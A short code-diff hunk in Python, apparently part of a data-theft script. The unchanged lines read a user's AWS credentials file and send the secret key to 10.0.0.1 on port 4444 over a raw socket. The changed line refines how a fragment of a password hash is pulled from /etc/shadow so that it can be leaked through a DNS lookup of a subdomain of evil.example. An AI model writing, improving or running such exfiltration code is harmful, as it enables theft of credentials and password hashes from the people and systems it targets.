@@ -312,7 +312,7 @@ data = open("/home/dana/.aws/credentials").read()
 s = socket.create_connection(("10.0.0.1", 4444))
 s.sendall(data[data.index("aws_secret"):].encode())
 s.close()
-m = open("/etc/shadow").read().split("$")[3][:40]
+m = "".join(c for c in open("/etc/shadow").read().split("$")[3].split(":")[0] if c.isalnum())[:40]
 try:
     socket.getaddrinfo(m + ".evil.example", 80)
 except OSError:
